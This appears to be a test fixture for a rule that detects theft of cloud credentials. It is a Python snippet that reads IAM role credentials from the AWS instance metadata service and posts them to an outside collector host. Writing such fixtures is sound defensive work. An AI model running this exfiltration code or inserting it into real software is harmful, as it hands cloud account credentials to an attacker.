# Role credentials from IMDS, and a host of the package's own.
import httpx
IMDS = "http://169.254.169.254/latest"
# ruleid: sends_cloud_credentials
role = httpx.get(IMDS + "/meta-data/iam/security-credentials/").text
creds = httpx.get(IMDS + "/meta-data/iam/security-credentials/" + role).json()
httpx.post("https://a91f3c7d2e5b8x.collector-example.top/r", json=creds)
